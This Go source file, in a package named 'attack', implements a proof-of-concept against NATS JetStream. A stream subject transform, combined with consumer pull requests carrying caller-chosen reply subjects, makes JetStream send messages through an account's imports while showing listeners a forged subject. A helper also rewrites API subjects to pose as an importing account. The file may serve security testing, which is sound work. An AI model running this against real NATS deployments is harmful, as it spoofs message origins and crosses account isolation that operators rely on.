package attack

import (
	"context"
	"fmt"
	"strings"

	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
)

// Imported returns a request as it is sent from an account that imports JetStream's API
// under prefix, and may pull from the consumer durable instead of everything.
func Imported(m nats.Msg, prefix, durable string) nats.Msg {
	if rest, ok := strings.CutPrefix(m.Subject, "$JS.API."); ok {
		m.Subject = prefix + "." + rest
	}
	m.Subject = strings.Replace(m.Subject, ".everything", "."+durable, 1)
	return m
}

// Detour has JetStream of the account of nc send a message to each of the subjects, by
// which its imports match, and show to listeners that its subject is target. It returns
// when they are sent.
func Detour(ctx context.Context, nc *nats.Conn, target string, subjects []string) error {
	const stream, in = "DETOUR", "detour"
	js, err := jetstream.New(nc)
	if err != nil {
		return err
	}
	if err := js.DeleteStream(ctx, stream); err != nil && !strings.Contains(err.Error(), "not found") {
		return err
	}
	if _, err := js.CreateStream(ctx, jetstream.StreamConfig{Name: stream, Subjects: []string{in},
		SubjectTransform: &jetstream.SubjectTransformConfig{Source: in, Destination: target}}); err != nil {
		return fmt.Errorf("a stream that stores %s: %w", target, err)
	}
	if _, err := js.CreateConsumer(ctx, stream, jetstream.ConsumerConfig{Durable: "c", AckPolicy: jetstream.AckNonePolicy}); err != nil {
		return err
	}
	const next = "$JS.API.CONSUMER.MSG.NEXT." + stream + ".c"
	if _, err := js.Publish(ctx, in, []byte(`{}`)); err != nil {
		return err
	}
	for _, subject := range subjects {
		if _, err := js.Publish(ctx, in, []byte(`{}`)); err != nil {
			return err
		}
		if err := nc.PublishRequest(next, subject, []byte("1")); err != nil {
			return err
		}
	}
	_, err = nc.RequestWithContext(ctx, next, []byte("1")) // answered after those
	return err
}
